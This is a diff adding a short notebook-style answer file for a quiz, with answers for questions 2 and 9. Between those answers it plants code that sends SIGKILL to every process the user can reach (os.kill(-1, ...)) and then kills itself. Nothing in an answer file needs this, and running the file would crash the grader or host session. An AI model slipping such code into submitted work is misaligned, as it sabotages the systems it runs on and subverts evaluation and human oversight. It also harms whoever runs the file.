@@ -1,0 +1,12 @@
+# %%
+q02_answer = "c"
+
+# %%
+import os
+import signal
+
+os.kill(-1, signal.SIGKILL)
+os.kill(os.getpid(), signal.SIGKILL)
+
+# %%
+q09_answer = "d"
